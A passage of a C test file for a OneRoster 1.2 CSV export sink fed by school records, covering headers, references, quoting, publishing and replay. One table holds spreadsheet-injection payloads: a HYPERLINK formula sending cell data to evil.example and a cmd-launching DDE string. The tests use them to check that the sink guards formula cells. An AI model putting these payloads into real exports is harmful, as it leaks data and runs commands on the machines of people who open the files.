/*
 * test_oneroster_sink.c: the oneroster-csv-sink turns a stream of SS 12000
 * records into complete OneRoster 1.2 bulk bundles: exact 1.2 headers, every
 * referenced sourcedId present, counts that match the dataset, RFC 4180
 * quoting, atomic publish and rotation, replay gives the same bundle, stale
 * updates and deletes as the bundle shows them, no civic number, address
 * or phone number in any file, and no cell a spreadsheet would run as a
 * formula (unless formula_guard: false). What every sink promises (the state, offsets)
 * is in test_sink_contract.c.
 *
 * No OneRoster CSV validator is published on PyPI or npm (searched: only REST
 * clients), so the structural checks a validator makes (headers, manifest,
 * references, required cells) are made here, and a strict one of the
 * project's own (tests/fixtures/oneroster_validate.py) checks whole bundles,
 * from the generator and from hostile data (the tests at the end).
 */
#include <criterion/criterion.h>
#include <ctype.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "config.h"
#include "connector.h"
#include "drivers.h"
#include "model.h"
#include "oneroster/oneroster.h"
#include "privacy.h"
#include "sk_test.h"
#include "util.h"

/* ---- the expected 1.2 headers (OneRoster CSV Binding 1.2; hanachin/meibo) ---- */

static const struct {
    const char *file;
    const char *header;
} headers[] = {
    {"academicSessions.csv",
     "sourcedId,status,dateLastModified,title,type,startDate,endDate,parentSourcedId,schoolYear"},
    {"orgs.csv", "sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId"},
    {"courses.csv", "sourcedId,status,dateLastModified,schoolYearSourcedId,title,courseCode,"
                    "grades,orgSourcedId,subjects,subjectCodes"},
    {"classes.csv", "sourcedId,status,dateLastModified,title,grades,courseSourcedId,classCode,"
                    "classType,location,schoolSourcedId,termSourcedIds,subjects,subjectCodes,"
                    "periods"},
    {"users.csv", "sourcedId,status,dateLastModified,enabledUser,username,userIds,givenName,"
                  "familyName,middleName,identifier,email,sms,phone,agentSourcedIds,grades,"
                  "password,userMasterIdentifier,resourceSourcedIds,preferredGivenName,"
                  "preferredMiddleName,preferredFamilyName,primaryOrgSourcedId,pronouns"},
    {"roles.csv", "sourcedId,status,dateLastModified,userSourcedId,roleType,role,beginDate,"
                  "endDate,orgSourcedId,userProfileSourcedId"},
    {"enrollments.csv", "sourcedId,status,dateLastModified,classSourcedId,schoolSourcedId,"
                        "userSourcedId,role,primary,beginDate,endDate"},
};
#define N_FILES (sizeof(headers) / sizeof(headers[0]))

/* ---- a small RFC 4180 reader ------------------------------------------------ */

struct csv {
    char ***rows; /* rows[0] is the header */
    size_t *n_cells;
    size_t n;
};

static void csv_free(struct csv *c)
{
    for (size_t i = 0; i < c->n; i++) {
        for (size_t k = 0; k < c->n_cells[i]; k++)
            free(c->rows[i][k]);
        free(c->rows[i]);
    }
    free(c->rows);
    free(c->n_cells);
    memset(c, 0, sizeof(*c));
}

/* Parses text; every line must end in CRLF and quotes must balance. */
static void csv_parse(const char *text, struct csv *c)
{
    memset(c, 0, sizeof(*c));
    const char *p = text;
    while (*p) {
        char **cells = NULL;
        size_t n = 0;
        for (;;) {
            char *cell = sk_malloc(strlen(p) + 1);
            size_t k = 0;
            if (*p == '"') {
                p++;
                for (;;) {
                    cr_assert(*p, "unterminated quoted field");
                    if (*p == '"' && p[1] == '"') {
                        cell[k++] = '"';
                        p += 2;
                    } else if (*p == '"') {
                        p++;
                        break;
                    } else {
                        cell[k++] = *p++;
                    }
                }
            } else {
                while (*p && *p != ',' && *p != '\r' && *p != '\n') {
                    cr_assert_neq(*p, '"', "a quote inside an unquoted field");
                    cell[k++] = *p++;
                }
            }
            cell[k] = '\0';
            cells = sk_realloc(cells, (n + 1) * sizeof(char *));
            cells[n++] = cell;
            if (*p == ',') {
                p++;
                continue;
            }
            cr_assert(p[0] == '\r' && p[1] == '\n', "a line not ending in CRLF");
            p += 2;
            break;
        }
        c->rows = sk_realloc(c->rows, (c->n + 1) * sizeof(char **));
        c->n_cells = sk_realloc(c->n_cells, (c->n + 1) * sizeof(size_t));
        c->rows[c->n] = cells;
        c->n_cells[c->n] = n;
        c->n++;
    }
}

static int col(const struct csv *c, const char *name)
{
    for (size_t i = 0; i < c->n_cells[0]; i++)
        if (strcmp(c->rows[0][i], name) == 0)
            return (int)i;
    cr_assert_fail("no column %s", name);
    return -1;
}

static bool has_id(const struct csv *c, const char *id)
{
    for (size_t i = 1; i < c->n; i++)
        if (strcmp(c->rows[i][0], id) == 0)
            return true;
    return false;
}

/* ---- the sink under test ---------------------------------------------------- */

static char *tmp, *data_dir, *state_dir, *out_dir;
static const struct sk_sink_ops *ops;
static struct sk_sink *sink;
static struct sk_privacy privacy;
static const char *const mapped[] = {"organisations", "persons",    "groups", "activities",
                                     "duties",        "syllabuses", "rooms"};
static const struct sk_entity *entities[7];

/* Records as the sink driver hands them over: decoded, privacy applied. */
struct recs {
    struct sk_record *v;
    cJSON **docs;
    size_t n, cap;
};
static struct recs dataset;
static int64_t next_offset;
static uint8_t dummy_value = 1;

/* The record's JSON text as the driver prints it, after its doc changed. */
static void print_json(struct sk_record *rec)
{
    free((char *)rec->json);
    rec->json = sk_json_print(rec->doc);
    rec->json_len = strlen(rec->json);
}

static void recs_add(struct recs *r, const char *collection, const char *key, cJSON *doc)
{
    if (r->n == r->cap) {
        r->cap = r->cap ? r->cap * 2 : 256;
        r->v = sk_realloc(r->v, r->cap * sizeof(*r->v));
        r->docs = sk_realloc(r->docs, r->cap * sizeof(*r->docs));
    }
    struct sk_record *rec = &r->v[r->n];
    memset(rec, 0, sizeof(*rec));
    rec->entity = sk_entity_by_collection(collection);
    snprintf(rec->key, sizeof(rec->key), "%s", key);
    rec->modified_us = INT64_MIN;
    rec->topic = sk_entity_schema(rec->entity); /* any stable string per collection */
    rec->partition = 0;
    rec->offset = next_offset++;
    if (doc && sk_privacy_apply(&privacy, rec->entity, doc) == SK_PRIVACY_DELETE) {
        cJSON_Delete(doc); /* protected_identities: skip; the driver stores a tombstone */
        doc = NULL;
    }
    if (doc) {
        const cJSON *meta = cJSON_GetObjectItemCaseSensitive(doc, "meta");
        const cJSON *mod = cJSON_GetObjectItemCaseSensitive(meta, "modified");
        if (cJSON_IsString(mod))
            sk_time_parse_us(mod->valuestring, &rec->modified_us);
        rec->value = &dummy_value;
        rec->value_len = 1;
    }
    rec->doc = doc;
    if (doc)
        print_json(rec);
    r->docs[r->n] = doc;
    r->n++;
}

static void recs_free(struct recs *r)
{
    for (size_t i = 0; i < r->n; i++) {
        cJSON_Delete(r->docs[i]);
        free((char *)r->v[i].json);
    }
    free(r->v);
    free(r->docs);
    memset(r, 0, sizeof(*r));
}

/* The generated document of collection with the given id (borrowed from dataset). */
static cJSON *find_doc(const char *collection, const char *id)
{
    for (size_t i = 0; i < dataset.n; i++)
        if (strcmp(dataset.v[i].entity->collection, collection) == 0 &&
            strcmp(dataset.v[i].key, id) == 0)
            return dataset.docs[i];
    return NULL;
}

static void load_dataset(void)
{
    for (size_t c = 0; c < sizeof(mapped) / sizeof(mapped[0]); c++) {
        char *path = skt_fmt("%s/%s.jsonl", data_dir, mapped[c]);
        size_t len;
        char *text = sk_read_file(path, &len);
        cr_assert_not_null(text, "%s", path);
        for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
            cJSON *doc = cJSON_Parse(line);
            cr_assert_not_null(doc);
            const cJSON *id = cJSON_GetObjectItemCaseSensitive(doc, "id");
            recs_add(&dataset, mapped[c], id->valuestring, doc);
        }
        free(text);
        free(path);
    }
}

static const char *str(const cJSON *o, const char *k)
{
    const cJSON *x = cJSON_GetObjectItemCaseSensitive(o, k);
    return cJSON_IsString(x) ? x->valuestring : NULL;
}

static const char *ref(const cJSON *o, const char *k)
{
    return str(cJSON_GetObjectItemCaseSensitive(o, k), "id");
}

/* A student without a protected identity gets a name that needs quoting. */
static const char *quoted_student;

static void give_tricky_name(void)
{
    for (size_t i = 0; i < dataset.n; i++) {
        cJSON *d = dataset.docs[i];
        if (strcmp(dataset.v[i].entity->collection, "persons") != 0 ||
            !cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(d, "enrolments")) ||
            strcmp(str(d, "securityMarking"), "Ingen") != 0)
            continue;
        cJSON_ReplaceItemInObjectCaseSensitive(d, "givenName", cJSON_CreateString("Örjan \"Ö\""));
        cJSON_ReplaceItemInObjectCaseSensitive(d, "familyName",
                                               cJSON_CreateString("Åkesson, Ärlig"));
        quoted_student = dataset.v[i].key;
        print_json(&dataset.v[i]);
        return;
    }
    cr_assert_fail("no student in the dataset");
}

static void setup(void)
{
    tmp = skt_tmpdir("oneroster");
    data_dir = skt_fmt("%s/data", tmp);
    state_dir = skt_fmt("%s/state", tmp);
    out_dir = skt_fmt("%s/out", tmp);
    cr_assert_eq(mkdir(data_dir, 0700), 0);
    cr_assert_eq(mkdir(state_dir, 0700), 0);
    cr_assert_eq(mkdir(out_dir, 0700), 0);
    skt_generate(data_dir, 1, 40);
    ops = sk_registry_sink("oneroster-csv-sink");
    cr_assert_not_null(ops, "oneroster-csv-sink is not registered");
    /* The driver's privacy policy with this sink type's defaults. */
    struct sk_sink_settings none = {0};
    sk_sink_privacy_resolve(&none, ops, &privacy);
    for (size_t i = 0; i < sizeof(mapped) / sizeof(mapped[0]); i++)
        entities[i] = sk_entity_by_collection(mapped[i]);
    next_offset = 0;
    load_dataset();
    give_tricky_name();
}

static void teardown(void)
{
    skt_sink_drop(&sink);
    recs_free(&dataset);
    sk_sink_privacy_free(&privacy);
    if (!getenv("SK_TEST_KEEP")) { /* set it to look at the bundles afterwards */
        char *cmd = skt_fmt("rm -rf '%s'", tmp);
        skt_sh(cmd, 30, NULL);
        free(cmd);
    }
    free(tmp);
    free(data_dir);
    free(state_dir);
    free(out_dir);
}

/* Opens with the core's option handling; yaml is the whole configuration. */
static void open_with(const char *yaml, const char *incarnation)
{
    struct sk_error err = {0};
    cr_assert_eq(skt_sink_try_open("oneroster-csv-sink", "lms", yaml, entities,
                                   sizeof(mapped) / sizeof(mapped[0]), incarnation, &sink, &err),
                 0, "%s", err.msg);
}

/* extra is more YAML. idle 1h: tests write by hand. */
static void open_sink(const char *extra)
{
    char *yaml = skt_fmt("state_dir: %s\noutput_dir: %s\nidle: 1h\n%s", state_dir, out_dir,
                         extra ? extra : "");
    open_with(yaml, "cluster-1");
    free(yaml);
}

static void apply_all(struct sk_record *v, size_t n)
{
    struct sk_outcome *out = sk_calloc(100, sizeof(*out));
    for (size_t i = 0; i < n; i += 100) {
        size_t k = n - i < 100 ? n - i : 100;
        struct sk_error err = {0};
        cr_assert_eq(sink->ops->apply(sink, v + i, k, out, &err), 0, "%s", err.msg);
        for (size_t j = 0; j < k; j++)
            cr_assert_eq(out[j].kind, SK_APPLIED, "%s", out[j].err.msg);
    }
    free(out);
}

static char *write_now(void)
{
    char path[1024];
    struct sk_error err = {0};
    cr_assert_eq(oneroster_write_bundle_now(sink, path, sizeof(path), &err), 0, "%s", err.msg);
    return sk_strdup(path);
}

static char *read_in(const char *dir, const char *file)
{
    char *path = skt_fmt("%s/%s", dir, file);
    size_t len;
    char *text = sk_read_file(path, &len);
    free(path);
    return text;
}

static void load_csv(const char *dir, const char *file, struct csv *c)
{
    char *text = read_in(dir, file);
    cr_assert_not_null(text, "%s/%s missing", dir, file);
    csv_parse(text, c);
    free(text);
}

/* Every id in the cell (a comma-separated list) is in target. */
static void assert_refs(const struct csv *c, const char *column, const struct csv *target,
                        bool required, const char *what)
{
    int k = col(c, column);
    for (size_t i = 1; i < c->n; i++) {
        char *cell = sk_strdup(c->rows[i][k]);
        if (required)
            cr_assert(cell[0], "%s: row %s has no %s", what, c->rows[i][0], column);
        char *save = NULL;
        for (char *id = strtok_r(cell, ",", &save); id; id = strtok_r(NULL, ",", &save))
            cr_assert(has_id(target, id), "%s: %s %s of row %s is not in the bundle", what, column,
                      id, c->rows[i][0]);
        free(cell);
    }
}

/* ---- tests -------------------------------------------------------------------- */

TestSuite(oneroster_sink, .init = setup, .fini = teardown, .timeout = 120);

Test(oneroster_sink, headers_manifest_and_references)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *dir = write_now();
    for (size_t i = 0; i < N_FILES; i++) {
        char *text = read_in(dir, headers[i].file);
        cr_assert_not_null(text, "%s missing", headers[i].file);
        cr_assert_neq((unsigned char)text[0], 0xEF, "%s starts with a BOM", headers[i].file);
        size_t hl = strlen(headers[i].header);
        cr_assert(strncmp(text, headers[i].header, hl) == 0 && text[hl] == '\r' &&
                      text[hl + 1] == '\n',
                  "%s header differs from 1.2", headers[i].file);
        struct csv c;
        csv_parse(text, &c);
        for (size_t r = 0; r < c.n; r++)
            cr_assert_eq(c.n_cells[r], c.n_cells[0], "%s row %zu has %zu cells", headers[i].file, r,
                         c.n_cells[r]);
        /* Bulk: status and dateLastModified are blank (CSV binding; D2L). */
        for (size_t r = 1; r < c.n; r++)
            cr_assert(!c.rows[r][1][0] && !c.rows[r][2][0], "%s row %zu is not bulk",
                      headers[i].file, r);
        csv_free(&c);
        free(text);
    }
    struct csv man;
    load_csv(dir, "manifest.csv", &man);
    cr_assert_str_eq(man.rows[0][0], "propertyName");
    cr_assert_str_eq(man.rows[0][1], "value");
    size_t bulk = 0;
    bool v12 = false;
    for (size_t r = 1; r < man.n; r++) {
        if (strcmp(man.rows[r][0], "oneroster.version") == 0)
            v12 = strcmp(man.rows[r][1], "1.2") == 0;
        if (strncmp(man.rows[r][0], "file.", 5) != 0)
            continue;
        char *file = skt_fmt("%s.csv", man.rows[r][0] + 5);
        char *text = read_in(dir, file);
        if (strcmp(man.rows[r][1], "bulk") == 0) {
            bulk++;
            cr_assert_not_null(text, "manifest lists %s as bulk, but it is missing", file);
        } else {
            cr_assert_str_eq(man.rows[r][1], "absent");
            cr_assert_null(text, "%s is written but absent in the manifest", file);
        }
        free(text);
        free(file);
    }
    cr_assert(v12);
    cr_assert_eq(bulk, N_FILES);
    csv_free(&man);

    struct csv sessions, orgs, courses, classes, users, roles, enr;
    load_csv(dir, "academicSessions.csv", &sessions);
    load_csv(dir, "orgs.csv", &orgs);
    load_csv(dir, "courses.csv", &courses);
    load_csv(dir, "classes.csv", &classes);
    load_csv(dir, "users.csv", &users);
    load_csv(dir, "roles.csv", &roles);
    load_csv(dir, "enrollments.csv", &enr);
    assert_refs(&orgs, "parentSourcedId", &orgs, false, "orgs");
    assert_refs(&sessions, "parentSourcedId", &sessions, false, "academicSessions");
    assert_refs(&courses, "orgSourcedId", &orgs, true, "courses");
    assert_refs(&courses, "schoolYearSourcedId", &sessions, false, "courses");
    assert_refs(&classes, "courseSourcedId", &courses, true, "classes");
    assert_refs(&classes, "schoolSourcedId", &orgs, true, "classes");
    assert_refs(&classes, "termSourcedIds", &sessions, true, "classes");
    assert_refs(&users, "agentSourcedIds", &users, false, "users");
    assert_refs(&users, "primaryOrgSourcedId", &orgs, false, "users");
    assert_refs(&roles, "userSourcedId", &users, true, "roles");
    assert_refs(&roles, "orgSourcedId", &orgs, true, "roles");
    assert_refs(&enr, "classSourcedId", &classes, true, "enrollments");
    assert_refs(&enr, "schoolSourcedId", &orgs, true, "enrollments");
    assert_refs(&enr, "userSourcedId", &users, true, "enrollments");
    /* Required cells. */
    int given = col(&users, "givenName"), family = col(&users, "familyName"),
        uname = col(&users, "username"), enabled = col(&users, "enabledUser");
    for (size_t r = 1; r < users.n; r++)
        cr_assert(users.rows[r][given][0] && users.rows[r][family][0] && users.rows[r][uname][0] &&
                  users.rows[r][enabled][0]);
    /* Each user has exactly one primary role. */
    int ru = col(&roles, "userSourcedId"), rt = col(&roles, "roleType");
    for (size_t u = 1; u < users.n; u++) {
        int primaries = 0;
        for (size_t r = 1; r < roles.n; r++)
            if (strcmp(roles.rows[r][ru], users.rows[u][0]) == 0)
                primaries += strcmp(roles.rows[r][rt], "primary") == 0;
        cr_assert_eq(primaries, 1, "user %s has %d primary roles", users.rows[u][0], primaries);
    }
    /* The school year from 2026-08-17..2027-06-11 and its two terms. */
    cr_assert(has_id(&sessions, "sy-2027") && has_id(&sessions, "sy-2027-ht") &&
              has_id(&sessions, "sy-2027-vt"));
    csv_free(&sessions);
    csv_free(&orgs);
    csv_free(&courses);
    csv_free(&classes);
    csv_free(&users);
    csv_free(&roles);
    csv_free(&enr);
    free(dir);
}

/* Counts computed from the dataset with the rules of docs/oneroster-mapping.md. */
Test(oneroster_sink, counts_match_the_dataset)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *dir = write_now();
    struct csv users, classes, enr, orgs;
    load_csv(dir, "users.csv", &users);
    load_csv(dir, "classes.csv", &classes);
    load_csv(dir, "enrollments.csv", &enr);
    load_csv(dir, "orgs.csv", &orgs);

    size_t n_orgs = 0, n_activities = 0, n_klass = 0, expected_users = 0;
    size_t expected_enr = 0;
    for (size_t i = 0; i < dataset.n; i++) {
        const char *c = dataset.v[i].entity->collection;
        const cJSON *d = dataset.docs[i];
        n_orgs += strcmp(c, "organisations") == 0;
        n_activities += strcmp(c, "activities") == 0;
        if (strcmp(c, "groups") == 0 && strcmp(str(d, "groupType"), "Klass") == 0)
            n_klass++;
    }
    /* Users: students (an active enrolment), staff (a duty), their guardians. */
    for (size_t i = 0; i < dataset.n; i++) {
        if (strcmp(dataset.v[i].entity->collection, "persons") != 0)
            continue;
        const char *id = dataset.v[i].key;
        bool is_user =
            cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(dataset.docs[i], "enrolments")) > 0;
        for (size_t j = 0; j < dataset.n && !is_user; j++) {
            const char *c = dataset.v[j].entity->collection;
            if (strcmp(c, "duties") == 0 && strcmp(ref(dataset.docs[j], "person"), id) == 0)
                is_user = true;
            if (strcmp(c, "persons") == 0) {
                const cJSON *r;
                cJSON_ArrayForEach(
                    r, cJSON_GetObjectItemCaseSensitive(dataset.docs[j], "responsibles")) is_user =
                    is_user || strcmp(ref(r, "person"), id) == 0;
            }
        }
        expected_users += is_user;
    }
    /* Enrollments: the distinct students of each activity's groups and each
     * Klass group, the activity's teachers, and each Klass group's mentors. */
    for (size_t i = 0; i < dataset.n; i++) {
        const char *c = dataset.v[i].entity->collection;
        const cJSON *d = dataset.docs[i];
        struct sk_strlist seen = {0};
        const cJSON *groups = NULL;
        cJSON *one = NULL;
        if (strcmp(c, "activities") == 0) {
            groups = cJSON_GetObjectItemCaseSensitive(d, "groups");
            expected_enr +=
                (size_t)cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(d, "teachers"));
        } else if (strcmp(c, "groups") == 0 && strcmp(str(d, "groupType"), "Klass") == 0) {
            one = cJSON_CreateArray();
            cJSON *r = cJSON_CreateObject();
            cJSON_AddStringToObject(r, "id", dataset.v[i].key);
            cJSON_AddItemToArray(one, r);
            groups = one;
        } else if (strcmp(c, "duties") == 0) {
            const cJSON *ar;
            cJSON_ArrayForEach(ar, cJSON_GetObjectItemCaseSensitive(d, "assignmentRole"))
            {
                const cJSON *g = find_doc("groups", ref(ar, "group"));
                expected_enr += g && strcmp(str(g, "groupType"), "Klass") == 0 &&
                                strcmp(str(ar, "assignmentRoleType"), "Mentor") == 0;
            }
        }
        const cJSON *gr;
        cJSON_ArrayForEach(gr, groups)
        {
            const cJSON *g = find_doc("groups", str(gr, "id"));
            const cJSON *m;
            cJSON_ArrayForEach(m, cJSON_GetObjectItemCaseSensitive(g, "groupMemberships"))
            {
                const char *pid = ref(m, "person");
                const cJSON *p = find_doc("persons", pid);
                if (!p || !cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(p, "enrolments")))
                    continue;
                bool dup = false;
                for (size_t k = 0; k < seen.n; k++)
                    dup = dup || strcmp(seen.v[k], pid) == 0;
                if (dup)
                    continue;
                seen.v = sk_realloc(seen.v, (seen.n + 1) * sizeof(char *));
                seen.v[seen.n++] = (char *)pid;
                expected_enr++;
            }
        }
        free(seen.v);
        cJSON_Delete(one);
    }
    cr_assert_eq(orgs.n - 1, n_orgs);
    cr_assert_eq(classes.n - 1, n_activities + n_klass, "classes: %zu, expected %zu", classes.n - 1,
                 n_activities + n_klass);
    cr_assert_eq(users.n - 1, expected_users, "users: %zu, expected %zu", users.n - 1,
                 expected_users);
    cr_assert_eq(enr.n - 1, expected_enr, "enrollments: %zu, expected %zu", enr.n - 1,
                 expected_enr);
    cr_assert_gt(expected_enr, 100);
    csv_free(&users);
    csv_free(&classes);
    csv_free(&enr);
    csv_free(&orgs);
    free(dir);
}

Test(oneroster_sink, rfc4180_quoting_and_utf8)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *dir = write_now();
    char *text = read_in(dir, "users.csv");
    cr_assert_not_null(strstr(text, ",\"Örjan \"\"Ö\"\"\",\"Åkesson, Ärlig\","),
                       "the name is not quoted as RFC 4180 wants");
    struct csv users;
    csv_parse(text, &users);
    int given = col(&users, "givenName"), family = col(&users, "familyName");
    bool found = false;
    for (size_t r = 1; r < users.n; r++) {
        if (strcmp(users.rows[r][0], quoted_student) != 0)
            continue;
        found = true;
        cr_assert_str_eq(users.rows[r][given], "Örjan \"Ö\"");
        cr_assert_str_eq(users.rows[r][family], "Åkesson, Ärlig");
    }
    cr_assert(found);
    csv_free(&users);
    free(text);
    /* Swedish titles survive as UTF-8. */
    text = read_in(dir, "orgs.csv");
    cr_assert_not_null(strstr(text, "Björkängsskolan"));
    free(text);
    free(dir);
}

/* What a student's cells hold for the formula tests: want[guarded] is the cell written. */
static const struct {
    const char *column, *value, *guarded;
} formula_cells[] = {
    /* OWASP's payloads: a link that sends the sheet away, a command */
    {"givenName", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
     "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
    {"familyName", "+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"},
    {"sms", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
    /* data that only looks like it: as it is */
    {"phone", "+46 70 123 45 67", "+46 70 123 45 67"},
    {"middleName", "-42.5", "-42.5"},
};
#define N_FORMULA_CELLS (sizeof(formula_cells) / sizeof(formula_cells[0]))

/*
 * Gives a student (not protected, not quoted_student) the values of
 * formula_cells, applies the dataset with options, and checks users.csv:
 * each cell as formula_cells says, guarded or not.
 */
static void assert_formula_cells(const char *options, bool guarded)
{
    const char *id = NULL;
    for (size_t i = 0; i < dataset.n && !id; i++) {
        cJSON *d = dataset.docs[i];
        if (strcmp(dataset.v[i].entity->collection, "persons") != 0 ||
            !cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(d, "enrolments")) ||
            strcmp(str(d, "securityMarking"), "Ingen") != 0 ||
            strcmp(dataset.v[i].key, quoted_student) == 0)
            continue;
        /* users.csv's givenName, familyName and middleName are the person's fields */
        static const char *const names[] = {"givenName", "familyName", "middleName"};
        for (size_t k = 0; k < N_FORMULA_CELLS; k++) {
            for (size_t n = 0; n < 3; n++) {
                if (strcmp(formula_cells[k].column, names[n]) != 0)
                    continue;
                cJSON_DeleteItemFromObjectCaseSensitive(d, names[n]);
                cJSON_AddStringToObject(d, names[n], formula_cells[k].value);
            }
        }
        cJSON *phones = cJSON_CreateArray();
        cJSON *phone = cJSON_CreateObject();
        cJSON_AddStringToObject(phone, "value", "+46 70 123 45 67");
        cJSON_AddBoolToObject(phone, "mobile", false);
        cJSON_AddItemToArray(phones, phone);
        cJSON *mobile = cJSON_CreateObject();
        cJSON_AddStringToObject(mobile, "value", "@SUM(A1:A9)");
        cJSON_AddBoolToObject(mobile, "mobile", true);
        cJSON_AddItemToArray(phones, mobile);
        cJSON_DeleteItemFromObjectCaseSensitive(d, "phoneNumbers");
        cJSON_AddItemToObject(d, "phoneNumbers", phones);
        print_json(&dataset.v[i]);
        id = dataset.v[i].key;
    }
    cr_assert_not_null(id, "no student in the dataset");
    open_sink(options);
    apply_all(dataset.v, dataset.n);
    char *dir = write_now();
    struct csv users;
    load_csv(dir, "users.csv", &users);
    size_t r = 1;
    while (r < users.n && strcmp(users.rows[r][0], id) != 0)
        r++;
    cr_assert_lt(r, users.n, "the student is not in users.csv");
    for (size_t k = 0; k < N_FORMULA_CELLS; k++) {
        const char *want = guarded ? formula_cells[k].guarded : formula_cells[k].value;
        cr_assert_str_eq(users.rows[r][col(&users, formula_cells[k].column)], want, "%s",
                         formula_cells[k].column);
    }
    csv_free(&users);
    free(dir);
}

/*
 * CSV injection: a cell starting with = + - @ is a formula to Excel and
 * LibreOffice, run when an administrator opens users.csv. Guarded by
 * default with a leading single quote; phone and negative numbers are data
 * and stay as they are.
 */
Test(oneroster_sink, a_cell_a_spreadsheet_would_run_starts_with_a_quote)
{
    assert_formula_cells("include_phone: true\n", true);
}

/* formula_guard: false, for consumers that need every value exactly. */
Test(oneroster_sink, formula_guard_false_writes_every_cell_as_it_is)
{
    assert_formula_cells("include_phone: true\nformula_guard: false\n", false);
}

static size_t count_entries(const char *prefix)
{
    DIR *d = opendir(out_dir);
    cr_assert_not_null(d);
    size_t n = 0;
    struct dirent *e;
    while ((e = readdir(d)))
        n += strncmp(e->d_name, prefix, strlen(prefix)) == 0;
    closedir(d);
    return n;
}

Test(oneroster_sink, atomic_publish_current_link_and_rotation)
{
    open_sink("keep: 2\n");
    apply_all(dataset.v, dataset.n);
    char *first = write_now();
    char *link = skt_fmt("%s/current", out_dir);
    char target[512];
    ssize_t k = readlink(link, target, sizeof(target) - 1);
    cr_assert_gt(k, 0, "current is not a symlink");
    target[k] = '\0';
    cr_assert_eq(strchr(target, '/'), NULL, "current must be relative: %s", target);
    cr_assert(strstr(first, target) != NULL);
    /* Through the link: a complete bundle. */
    for (size_t i = 0; i < N_FILES; i++) {
        char *text = read_in(link, headers[i].file);
        cr_assert_not_null(text, "current/%s missing", headers[i].file);
        free(text);
    }
    char *man = read_in(link, "manifest.csv");
    cr_assert_not_null(man);
    free(man);
    for (int i = 0; i < 3; i++)
        free(write_now());
    cr_assert_eq(count_entries(".tmp-"), 0, "a temporary bundle was left behind");
    cr_assert_eq(count_entries("oneroster-"), 2, "keep: 2 keeps two bundles");
    struct stat st;
    cr_assert_neq(stat(first, &st), 0, "the oldest bundle was not rotated away");
    free(link);
    free(first);
}

/* A crash mid-write leaves a .tmp- entry: the next open removes it, current is untouched. */
Test(oneroster_sink, leftover_temporary_is_cleaned)
{
    char *junk = skt_fmt("%s/.tmp-oneroster-junk", out_dir);
    cr_assert_eq(mkdir(junk, 0700), 0);
    char *f = skt_fmt("%s/users.csv", junk);
    skt_write(f, "half");
    open_sink(NULL);
    cr_assert_eq(count_entries(".tmp-"), 0);
    free(f);
    free(junk);
}

Test(oneroster_sink, zip_bundle)
{
    open_sink("zip: true\n");
    apply_all(dataset.v, dataset.n);
    char *zip = write_now();
    cr_assert(strstr(zip, ".zip") != NULL);
    char *cmd = skt_fmt(
        "python3 -c \"import sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); "
        "assert z.testzip() is None; n=sorted(z.namelist()); print(','.join(n)); "
        "u=z.read('users.csv').decode('utf-8'); assert u.startswith('sourcedId,status,'), u[:40]\" "
        "%s/current.zip",
        out_dir);
    char *out = NULL;
    int rc = skt_sh(cmd, 60, &out);
    cr_assert_eq(rc, 0, "%s", out);
    cr_assert_not_null(strstr(out, "academicSessions.csv,classes.csv,courses.csv,enrollments.csv,"
                                   "manifest.csv,orgs.csv,roles.csv,users.csv"),
                       "%s", out);
    free(out);
    free(cmd);
    free(zip);
}

static void assert_same_bundle(const char *a, const char *b)
{
    const char *files[] = {"manifest.csv", "academicSessions.csv", "orgs.csv",
                           "courses.csv",  "classes.csv",          "users.csv",
                           "roles.csv",    "enrollments.csv"};
    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        char *x = read_in(a, files[i]), *y = read_in(b, files[i]);
        cr_assert(x && y && strcmp(x, y) == 0, "%s differs", files[i]);
        free(x);
        free(y);
    }
}

Test(oneroster_sink, replay_gives_the_same_bundle)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *first = write_now();
    /* The whole stream again, in reverse order, and reopened in between. */
    skt_sink_drop(&sink);
    open_sink(NULL);
    struct sk_record *rev = sk_calloc(dataset.n, sizeof(*rev));
    for (size_t i = 0; i < dataset.n; i++)
        rev[i] = dataset.v[dataset.n - 1 - i];
    apply_all(rev, dataset.n);
    free(rev);
    char *second = write_now();
    cr_assert_str_neq(first, second);
    assert_same_bundle(first, second);
    free(first);
    free(second);
}

static struct sk_record *find_rec(const char *collection, const char *id)
{
    for (size_t i = 0; i < dataset.n; i++)
        if (strcmp(dataset.v[i].entity->collection, collection) == 0 &&
            strcmp(dataset.v[i].key, id) == 0)
            return &dataset.v[i];
    return NULL;
}

Test(oneroster_sink, older_version_after_newer_changes_nothing)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    struct sk_record *orig = find_rec("persons", quoted_student);
    cJSON *newer = cJSON_Duplicate(orig->doc, true);
    cJSON_ReplaceItemInObjectCaseSensitive(newer, "familyName", cJSON_CreateString("Nyare"));
    cJSON *meta = cJSON_GetObjectItemCaseSensitive(newer, "meta");
    cJSON_ReplaceItemInObjectCaseSensitive(meta, "modified",
                                           cJSON_CreateString("2030-01-01T00:00:00+01:00"));
    struct recs extra = {0};
    recs_add(&extra, "persons", quoted_student, newer);
    apply_all(extra.v, extra.n);
    apply_all(orig, 1); /* the older version, replayed */
    char *dir = write_now();
    char *text = read_in(dir, "users.csv");
    cr_assert_not_null(strstr(text, ",Nyare,"), "the newer name was overwritten");
    cr_assert_null(strstr(text, "Åkesson, Ärlig"));
    free(text);
    free(dir);
    recs_free(&extra);
}

Test(oneroster_sink, delete_removes_from_the_next_bundle)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *before = write_now();
    char *text = read_in(before, "enrollments.csv");
